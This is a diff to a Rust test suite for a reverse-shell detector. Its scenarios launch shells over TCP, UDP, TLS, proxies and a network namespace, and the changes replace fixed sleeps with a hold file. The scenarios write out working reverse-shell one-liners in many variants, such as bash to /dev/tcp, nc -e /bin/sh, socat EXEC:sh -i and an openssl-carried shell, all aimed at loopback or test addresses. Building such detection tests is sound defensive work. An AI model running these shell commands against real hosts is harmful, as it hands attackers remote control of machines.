@@ -5,8 +5,8 @@
 
 use super::{Expected, Scenario, Stage, record};
 
-/// A script that begins with functions: those of `looks`, and `peer PORT`, which accepts a connection and closes it after
-/// some seconds (`peer6`: of either family; `knock PORT` connects instead).
+/// A script that begins with functions: those of `looks`, and `peer PORT`, which accepts a connection and closes it when
+/// the scenario is over (`peer6`: of either family; `knock PORT` connects instead).
 macro_rules! script {
     ($script:literal) => {
         concat!(
@@ -14,29 +14,29 @@ macro_rules! script {
             r#"
 peer() {
   python3 -c '
-import socket, sys, time
+import os, socket, sys, time
 server = socket.create_server(("", int(sys.argv[1])))
 connection, _ = server.accept()
 connection.sendall(sys.argv[2].encode() + b"\n")
-time.sleep(float(sys.argv[3]))
-' $1 "${2:-:}" ${3:-5} > /dev/null 2>&1 &
+while os.path.exists(os.environ["hold"]): time.sleep(0.1)
+' $1 "${2:-:}" > /dev/null 2>&1 &
   await "grep -q :$(printf %04X $1).*:0000.0A /proc/net/tcp"
 }
 peer6() {
   python3 -c '
-import socket, sys, time
+import os, socket, sys, time
 server = socket.create_server(("::", int(sys.argv[1])), family=socket.AF_INET6, dualstack_ipv6=True)
 connection, _ = server.accept()
-time.sleep(5)
+while os.path.exists(os.environ["hold"]): time.sleep(0.1)
 ' $1 > /dev/null 2>&1 &
   await "grep -q :$(printf %04X $1).*:0000.0A /proc/net/tcp6"
 }
 knock() {
   python3 -c '
-import socket, sys, time
+import os, socket, sys, time
 connection = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
 connection.sendall(b":\n")
-time.sleep(5)
+while os.path.exists(os.environ["hold"]): time.sleep(0.1)
 ' $1 > /dev/null 2>&1 &
 }
 "#,
@@ -86,12 +86,12 @@ pub(super) const SCENARIOS: &[Scenario] = &[
     shell("R01b", "a peer that says all it has to say at once, and closes its side")
         .prepare(script!(
             r#"python3 -c '
-import socket, time
+import os, socket, time
 server = socket.create_server(("", 4411))
 connection, _ = server.accept()
-connection.sendall(b"sleep 3; exit\n")
+connection.sendall(b"read -r _ < $hold; exit\n")
 connection.shutdown(socket.SHUT_WR)
-time.sleep(5)
+while os.path.exists(os.environ["hold"]): time.sleep(0.1)
 ' > /dev/null 2>&1 &
             await "grep -q :113B.*:0000.0A /proc/net/tcp""#
         ))
@@ -190,7 +190,7 @@ time.sleep(5)
         .expect(chain!("outbound", "2", "$socat", "4404",
             ("reverse_shell.process_list.1.process_id", "$shell"))),
     equipped("R04b", "a shell on a connection makes itself a pty with script")
-        .prepare(script!("peer 4454 'exec script -qc \"bash -i\" /dev/null' 3"))
+        .prepare(script!("peer 4454 'exec script -qc \"bash -i\" /dev/null'"))
         .act(script!(
             r#"act
             nc 127.0.0.1 4454 -e /bin/sh < /dev/null > /dev/null 2>&1 & fact first $!
@@ -297,7 +297,7 @@ pty.spawn("/bin/bash")' < /dev/null > /dev/null 2>&1 & fact python $!
               < /dev/null > /dev/null 2>&1 & fact gawk $!
             who cat cat
             await 'at $gawk 3 socket:* && ( at $cat 0 pipe:* || at $cat 0 socket:* )'
-            kill $cat"#
+            seen; kill $cat"#
         ))
         .expect(&[told(&[("detection.reason", "~outbound")])]),
     equipped("R12b", "ruby becomes a shell")
@@ -347,7 +347,7 @@ pty.spawn("/bin/bash")' < /dev/null > /dev/null 2>&1 & fact python $!
     equipped("R12f", "openssl carries a shell over TLS")
         .prepare(script!(
             "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=r -keyout /tmp/r12f.key -out /tmp/r12f.pem 2> /dev/null
-             (sleep 6 | timeout 6 openssl s_server -quiet -accept 4466 -key /tmp/r12f.key -cert /tmp/r12f.pem) > /dev/null 2>&1 &
+             (hold | timeout 300 openssl s_server -quiet -accept 4466 -key /tmp/r12f.key -cert /tmp/r12f.pem) > /dev/null 2>&1 &
              await 'grep -q :1172.*:0000.0A /proc/net/tcp /proc/net/tcp6'
              rm -f /tmp/r12f; mkfifo /tmp/r12f"
         ))
@@ -407,7 +407,8 @@ os.execve(program, ["cache-worker"], {})' < /dev/null > /dev/null 2>&1 & fact sh
         .prepare(script!(
             "python3 -c '
 import socket, time
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((\"127.0.0.1\", 4416)); time.sleep(6)' > /dev/null 2>&1 &
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((\"127.0.0.1\", 4416)); time.sleep(600)' > /dev/null 2>&1 &
+             kept $!
              await 'grep -q :1140 /proc/net/udp'"
         ))
         .act(script!(
@@ -415,7 +416,7 @@ s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((\"127.0.0.1\", 441
             bash -c "bash -i >& /dev/udp/127.0.0.1/4416 0>&1" < /dev/null > /dev/null 2>&1 &
             who shell 'bash -i'
             await 'at $shell 0 socket:* && same $shell 0 $shell 1'
-            sleep 1; kill -9 $shell"#
+            seen; kill -9 $shell"#
         ))
         .expect(&[told(&[("detection.reason", "~127.0.0.1")])]),
     equipped("R16b", "socat carries a shell over UDP")
@@ -428,7 +429,7 @@ s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((\"127.0.0.1\", 441
             socat UDP:127.0.0.1:4426 'EXEC:sh -i,stderr' > /dev/null 2>&1 & fact socat $!
             who shell 'sh -i'
             await 'at $shell 0 socket:*'
-            sleep 1; kill $socat $shell"#
+            seen; kill $socat $shell"#
         ))
         .expect(&[told(&[("reverse_shell.process_list.0.process_id", "$socat")])])
         .clean("pkill -x socat || true"),
@@ -502,17 +503,20 @@ os.execv("/bin/sh", ["sh", "-i"])' < /dev/null > /dev/null 2>&1 & fact shell $!
             "python3 -c '
 import socket, time
 server = socket.create_server((\"\", 4420))
-for _ in range(10):
+while True:
     connection, _ = server.accept()
-    connection.sendall(b\"sleep 0.1; exit\\n\")
-connection.recv(1)' > /dev/null 2>&1 &
+    connection.sendall(b\"sleep 0.1; exit\\n\")' > /dev/null 2>&1 &
+             kept $!
              await 'grep -q :1144.*:0000.0A /proc/net/tcp'"
         ))
         .act(script!(
             r#"act
-            for i in {1..10}; do bash -c "sh >& /dev/tcp/127.0.0.1/4420 0>&1" < /dev/null > /dev/null 2>&1; done"#
+            until come || ((SECONDS > 60)); do
+              bash -c "sh >& /dev/tcp/127.0.0.1/4420 0>&1" < /dev/null > /dev/null 2>&1
+            done"#
         ))
-        .expect(&[told(&[("detection.reason", "~outbound")]).times(10)]),
+        // A slow watcher misses some of such shells: there are more until it has found ten.
+        .expect(&[told(&[("detection.reason", "~outbound")]).at_least(10)]),
     equipped("R22", "a shell through a proxy that connects when it is asked")
         .prepare(script!(
             "peer 4431
@@ -529,7 +533,7 @@ connection.recv(1)' > /dev/null 2>&1 &
         .expect(&[told(&[("detection.reason", "~outbound")])]),
     equipped("R22b", "a shell behind a proxy on the same machine")
         .prepare(script!(
-            "peer 4441 : 6
+            "peer 4441
              socat TCP-LISTEN:4442 TCP:127.0.0.1:4441 > /dev/null 2>&1 & fact proxy $!
              await 'grep -q :115A.*:0000.0A /proc/net/tcp'
              python3 -c '
@@ -550,12 +554,12 @@ os.execv(\"/bin/sh\", [\"sh\", \"-i\"])' < /dev/null > /dev/null 2>&1 & fact she
         .clean("rm /tmp/r22"),
     shell("R23", "bash on a connection to another machine")
         .prepare(script!(
-            r#"unshare -n sleep 20 > /dev/null 2>&1 & fact far $!
+            r#"unshare -n sleep 6000 > /dev/null 2>&1 & fact far $!
             await '[ "$(readlink /proc/$far/ns/net)" != "$(readlink /proc/self/ns/net)" ]'
             ip link add r23 type veth; ip link set veth0 netns $far
             ip addr add 192.0.2.1/24 dev r23; ip link set r23 up
             nsenter -t $far -n ip addr add 192.0.2.2/24 dev veth0; nsenter -t $far -n ip link set veth0 up
-            (sleep 10 | nsenter -t $far -n timeout 10 nc -lp 4423) > /dev/null 2>&1 &
+            (hold | nsenter -t $far -n timeout 300 nc -lp 4423) > /dev/null 2>&1 &
             await 'nsenter -t $far -n cat /proc/net/tcp /proc/net/tcp6 | grep -q :1147.*:0000.0A'"#
         ))
         .act(script!(
@@ -563,7 +567,7 @@ os.execv(\"/bin/sh\", [\"sh\", \"-i\"])' < /dev/null > /dev/null 2>&1 & fact she
             bash -c "bash -i >& /dev/tcp/192.0.2.2/4423 0>&1" < /dev/null > /dev/null 2>&1 &
             who shell 'bash -i'
             await 'at $shell 0 socket:*'
-            sleep 1; kill -9 $shell"#
+            seen; kill -9 $shell"#
         ))
         .expect(chain!("outbound", "1", "$shell", "4423",
             ("reverse_shell.process_list.0.network_connection_list.0.destination_ip_address", "192.0.2.2")))
@@ -572,7 +576,7 @@ os.execv(\"/bin/sh\", [\"sh\", \"-i\"])' < /dev/null > /dev/null 2>&1 & fact she
         .prepare(script!("peer 4461; peer 4471"))
         .act(script!(
             r#"act
-            (sleep 3 | nc 127.0.0.1 4461 | sh 2>&1 | nc 127.0.0.1 4471) < /dev/null > /dev/null 2>&1 &
+            (hold | nc 127.0.0.1 4461 | sh 2>&1 | nc 127.0.0.1 4471) < /dev/null > /dev/null 2>&1 &
             who shell sh; who first 'nc 127.0.0.1 4461'; who second 'nc 127.0.0.1 4471'
             await 'same $shell 0 $first 1 && same $shell 1 $second 0 && at $first 3 socket:* && at $second 3 socket:*'"#
         ))
